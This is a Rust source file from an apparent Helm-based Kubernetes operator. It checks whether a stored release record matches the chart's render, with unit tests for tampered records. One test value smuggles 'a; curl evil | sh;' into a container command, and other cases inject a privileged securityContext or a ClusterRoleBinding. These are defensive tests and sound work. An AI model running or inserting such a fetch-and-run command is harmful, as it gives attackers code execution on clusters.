//! Decides whether a record of somebody else may be trusted: whether its objects and hooks are those
//! that the chart renders now.
//!
//! A record without a proof was written by a Go operator, by Helm, by an operator whose key is lost,
//! or by somebody who wants the operator to apply something. It gets a proof only if it has what the
//! chart renders for the owner. A value may differ from the render only where two renders
//! differ from each other, because the chart generates it: a password must not change because the
//! operator did.

use helm_core::Rendered;
use helm_core::manifest::hook::DeletePolicy;
use helm_core::manifest::{Hook, parse_objects};
use helm_core::release::{Release, Revision};
use serde_json::Value;

use super::super::desired_error::DesiredError;
use super::super::inputs::Inputs;
use super::super::message::Redactor;
use super::super::render::{RenderTarget, render};
use super::context::ActContext;

/// Bytes that a generated text may be longer than a rendered one: the length of certificates varies.
const TOLERANCE: usize = 16;

/// Returns whether the chart renders the objects and hooks of a record, apart from generated values.
///
/// # Errors
/// When the chart does not render.
pub(super) async fn is_rendered(
    context: &ActContext<'_>,
    inputs: &Inputs,
    record: &Release,
) -> Result<bool, DesiredError> {
    // Last values become values when their object is deleted.
    if record.values_from.is_some() && record.values_from != inputs.kept {
        return Ok(false);
    }
    let revision = record.revision;
    let target = RenderTarget {
        revision,
        upgrade: revision != Revision::FIRST,
    };
    let (setup, subject) = (context.setup, context.subject);
    let namespace = &context.target.namespace;
    let Some(recorded) = Content::of(&record.manifest, &record.hooks, namespace) else {
        return Ok(false);
    };
    // No caller reports why a chart does not render.
    let redactor = &mut Redactor::default();
    let mut renders = Vec::new();
    for _ in 0..2 {
        let (access, sources) = (context.access, &inputs.sources);
        let render = render(setup, access, subject, sources, target, redactor).await?;
        let Some(found) = Content::of_render(&render.rendered, namespace) else {
            return Ok(false);
        };
        renders.push(found);
        // The second render is needed only if something differs.
        if let [first] = renders.as_slice()
            && recorded.is_explained_by(first, first)
        {
            return Ok(true);
        }
    }
    Ok(match renders.as_slice() {
        [first, second] => recorded.is_explained_by(first, second),
        _ => false,
    })
}

/// Objects and hooks that are applied from a record or a render.
struct Content {
    namespace: String,
    objects: Vec<Value>,
    hooks: Vec<(Hook, Vec<Value>)>,
}

impl Content {
    fn of_render(rendered: &Rendered, namespace: &str) -> Option<Self> {
        Self::of(rendered.manifest(), rendered.hooks(), namespace)
    }

    /// Returns `None` if a manifest cannot be parsed.
    fn of(manifest: &str, hooks: &[Hook], namespace: &str) -> Option<Self> {
        let objects = |text: &str| -> Option<Vec<Value>> {
            let objects = parse_objects(text).ok()?;
            Some(
                objects
                    .iter()
                    .map(|o| o.without_ownership(namespace))
                    .collect(),
            )
        };
        let hooks = hooks
            .iter()
            .map(|hook| Some((settings(hook), objects(&hook.manifest)?)));
        Some(Self {
            namespace: namespace.to_owned(),
            objects: objects(manifest)?,
            hooks: hooks.collect::<Option<_>>()?,
        })
    }

    /// Returns whether this is what two renders have, apart from values in which they differ.
    fn is_explained_by(&self, one: &Self, two: &Self) -> bool {
        if self.hooks.len() != one.hooks.len() {
            return false;
        }
        let mut objects = self.hooks.iter().flat_map(|(_, objects)| objects);
        let mut hooks = self.hooks.iter();
        let same_count = |a: &Self| {
            let count = |content: &Self| content.hooks.iter().map(|(_, all)| all.len()).sum();
            let (mine, theirs): (usize, usize) = (count(self), count(a));
            mine == theirs && self.objects.len() == a.objects.len()
        };
        let in_hooks = |content: &Self| -> Vec<Value> {
            let all = content.hooks.iter();
            all.flat_map(|(_, objects)| objects.clone()).collect()
        };
        let (hooks_one, hooks_two) = (in_hooks(one), in_hooks(two));
        same_count(one)
            && same_count(two)
            && self
                .objects
                .iter()
                .all(|object| self.is_among(object, &one.objects, &two.objects))
            && objects.all(|object| self.is_among(object, &hooks_one, &hooks_two))
            && hooks.all(|(hook, objects)| {
                let same = |(known, others): &(Hook, Vec<Value>)| {
                    known == hook
                        && others.len() == objects.len()
                        && others.iter().zip(objects).all(|(a, b)| key(a) == key(b))
                };
                one.hooks.iter().any(same)
            })
    }

    fn is_among(&self, object: &Value, one: &[Value], two: &[Value]) -> bool {
        let find = |all: &[Value]| all.iter().find(|other| key(other) == key(object)).cloned();
        let (Some(a), Some(b)) = (find(one), find(two)) else {
            return false;
        };
        // Whoever writes records may write Secrets in this namespace anyway.
        let is_secret = object.pointer("/kind") == Some(&"Secret".into())
            && object.pointer("/apiVersion") == Some(&"v1".into())
            && object
                .pointer("/metadata/namespace")
                .is_none_or(|namespace| namespace == self.namespace.as_str());
        explained(object, &a, &b, is_secret)
    }
}

/// Returns what identifies an object.
fn key(object: &Value) -> [Option<&Value>; 4] {
    [
        object.pointer("/apiVersion"),
        object.pointer("/kind"),
        object.pointer("/metadata/namespace"),
        object.pointer("/metadata/name"),
    ]
}

/// Returns what decides when a hook runs and when it is deleted.
fn settings(hook: &Hook) -> Hook {
    let mut delete_policies = hook.delete_policies.clone();
    if delete_policies.is_empty() {
        delete_policies.push(DeletePolicy::BeforeHookCreation);
    }
    Hook {
        events: hook.events.clone(),
        weight: hook.weight,
        delete_policies,
        ..Hook::default()
    }
}

/// Returns whether a recorded value is one that the chart renders: it equals the rendered one, or
/// two renders differ from each other here and it looks like them.
fn explained(recorded: &Value, one: &Value, two: &Value, any_text: bool) -> bool {
    match (recorded, one, two) {
        (Value::Object(recorded), Value::Object(one), Value::Object(two)) => {
            let mut fields = recorded.iter();
            fields.all(|(key, value)| match (one.get(key), two.get(key)) {
                (Some(one), Some(two)) => explained(value, one, two, any_text),
                _ => false,
            }) && [one, two]
                .iter()
                .all(|render| render.keys().all(|key| recorded.contains_key(key)))
        }
        (Value::Array(recorded), Value::Array(one), Value::Array(two)) => {
            recorded.len() == one.len()
                && one.len() == two.len()
                && recorded
                    .iter()
                    .zip(one.iter().zip(two))
                    .all(|(recorded, (one, two))| explained(recorded, one, two, any_text))
        }
        (Value::String(recorded), Value::String(one), Value::String(two)) => {
            recorded == one || (one != two && (any_text || looks_generated(recorded, one, two)))
        }
        (Value::Number(recorded), Value::Number(one), Value::Number(two)) => {
            one != two || recorded == one || recorded.as_f64() == one.as_f64()
        }
        _ => recorded == one,
    }
}

/// Returns whether a text has the beginning and the end that two rendered ones have in common, and
/// only letters, digits and a few signs between them, so that it is no other command or template.
fn looks_generated(recorded: &str, one: &str, two: &str) -> bool {
    let common = |a: &mut dyn Iterator<Item = u8>, b: &mut dyn Iterator<Item = u8>| {
        a.zip(b).take_while(|(a, b)| a == b).count()
    };
    let begin = common(&mut one.bytes(), &mut two.bytes());
    let end = common(&mut one.bytes().rev(), &mut two.bytes().rev());
    let shortest = one.len().min(two.len());
    let end = end.min(shortest.saturating_sub(begin));
    let (bytes, rendered) = (recorded.as_bytes(), one.as_bytes());
    if bytes.len() < begin + end || bytes.len() > one.len().max(two.len()) + TOLERANCE {
        return false;
    }
    let last = |all: &[u8]| all.get(all.len() - end..).map(<[u8]>::to_vec);
    let middle = bytes.get(begin..bytes.len() - end).unwrap_or_default();
    bytes.get(..begin) == rendered.get(..begin)
        && last(bytes) == last(rendered)
        && middle
            .iter()
            .all(|byte| byte.is_ascii_alphanumeric() || b"+/=_.:-".contains(byte))
}

#[cfg(test)]
mod tests {
    use helm_core::manifest::{Hook, HookEvent};

    use super::Content;

    const RENDERED: &str = "\
apiVersion: v1
kind: Pod
metadata: {name: web}
spec:
  containers:
  - name: web
    image: nginx
    command: [sh, -c, 'serve --token=GENERATED1 --port=80']
---
apiVersion: v1
kind: Secret
metadata: {name: web}
stringData: {password: GENERATED2}
";

    fn content(manifest: &str) -> Content {
        Content::of(manifest, &[], "prod").unwrap()
    }

    /// Judges a record by two renders of the same chart.
    fn trusts(recorded: &str) -> bool {
        let render = |a: &str, b: &str| {
            let text = RENDERED.replace("GENERATED1", a).replace("GENERATED2", b);
            content(&text)
        };
        content(recorded).is_explained_by(&render("abcd1", "x!9"), &render("wxyz2", "y!3"))
    }

    #[test]
    fn a_record_is_trusted_if_only_generated_values_differ_from_the_render() {
        let original = RENDERED
            .replace("GENERATED1", "mnop3")
            .replace("GENERATED2", "pa$$ word");
        let replaced = |from: &str, to: &str| {
            assert!(original.contains(from), "{from}");
            original.replace(from, to)
        };
        let binding = "\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: x}\n";
        let table = [
            ("generated values", original.clone(), true),
            (
                "what a Go operator adds",
                replaced(
                    "metadata: {name: web}\nspec",
                    "metadata:\n  name: web\n  namespace: prod\n  ownerReferences: [{uid: u}]\n  annotations: {operator-sdk/primary-resource: prod/cr}\nspec",
                ),
                true,
            ),
            (
                "a null field",
                replaced("image: nginx", "image: nginx\n    env: null"),
                false,
            ),
            ("another object", format!("{original}{binding}"), false),
            ("another image", replaced("nginx", "evil"), false),
            (
                "another namespace",
                replaced(
                    "metadata: {name: web}\nspec",
                    "metadata: {name: web, namespace: kube-system}\nspec",
                ),
                false,
            ),
            (
                "another field",
                replaced(
                    "image: nginx",
                    "image: nginx\n    securityContext: {privileged: true}",
                ),
                false,
            ),
            ("a missing field", replaced("    image: nginx\n", ""), false),
            (
                "another command",
                replaced("mnop3", "a; curl evil | sh;"),
                false,
            ),
            (
                "another end of the command",
                replaced("--port=80", "--port=81"),
                false,
            ),
            (
                "a longer command",
                replaced("mnop3", &"a".repeat(99)),
                false,
            ),
            (
                "no Secret",
                original.split("---").next().unwrap().to_owned(),
                false,
            ),
            ("nothing", String::new(), false),
        ];
        for (what, recorded, trusted) in table {
            assert_eq!(trusts(&recorded), trusted, "{what}");
        }
    }

    #[test]
    fn a_record_with_other_hooks_than_the_render_is_not_trusted() {
        let job = |name: &str, image: &str| {
            format!(
                "apiVersion: batch/v1\nkind: Job\nmetadata: {{name: {name}}}\nspec: {{image: {image}}}\n"
            )
        };
        let hook = |manifest: String, event: HookEvent, weight: i64| Hook {
            manifest,
            events: vec![event],
            weight,
            ..Hook::default()
        };
        let rendered = [hook(job("a", "i"), HookEvent::PreInstall, 0)];
        let table = [
            ("the same", vec![rendered[0].clone()], true),
            ("none", vec![], false),
            (
                "another image",
                vec![hook(job("a", "j"), HookEvent::PreInstall, 0)],
                false,
            ),
            (
                "another name",
                vec![hook(job("b", "i"), HookEvent::PreInstall, 0)],
                false,
            ),
            (
                "another event",
                vec![hook(job("a", "i"), HookEvent::PreDelete, 0)],
                false,
            ),
            (
                "another weight",
                vec![hook(job("a", "i"), HookEvent::PreInstall, 1)],
                false,
            ),
            (
                "twice",
                vec![rendered[0].clone(), rendered[0].clone()],
                false,
            ),
        ];
        let of = |hooks: &[Hook]| Content::of("", hooks, "prod").unwrap();
        for (what, recorded, trusted) in table {
            let (one, two) = (of(&rendered), of(&rendered));
            assert_eq!(of(&recorded).is_explained_by(&one, &two), trusted, "{what}");
        }
    }
}
